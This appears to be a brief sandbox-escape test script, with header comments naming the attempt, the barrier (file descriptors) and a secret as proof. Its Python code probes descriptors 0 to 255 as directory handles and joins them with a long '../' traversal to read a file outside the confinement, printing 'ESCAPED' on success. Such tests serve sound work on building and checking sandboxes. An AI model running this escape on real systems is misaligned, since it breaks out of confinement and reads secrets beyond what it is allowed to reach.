# attempt: climb from a directory that was left open
# wall: descriptors
# control: file directory
# proof: secret
# listens: yes
import os

for fd in range(256):
    try:
        found = os.open("../" * 30 + os.environ["OUTSIDE"][1:], os.O_RDONLY, dir_fd=fd)
        print("ESCAPED", os.read(found, 100))
    except OSError:
        pass
